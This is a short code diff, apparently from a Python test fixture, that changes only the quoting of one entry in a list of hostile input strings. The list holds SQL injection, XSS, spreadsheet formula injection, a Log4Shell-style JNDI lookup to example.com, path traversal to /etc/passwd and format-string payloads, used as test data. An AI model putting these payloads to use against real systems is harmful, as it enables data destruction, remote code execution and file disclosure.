@@ -62,7 +62,7 @@ _TEXTS = (
     "Robert'); DROP TABLE orders;--",
     "1 OR 1=1",
     "<script>alert(1)</script>",
-    "=HYPERLINK(\"http://example.com\")",  # a spreadsheet runs it
+    '=HYPERLINK("http://example.com")',  # a spreadsheet runs it
     "${jndi:ldap://example.com/a}",
     "../../etc/passwd",
     "%s%n{0}",
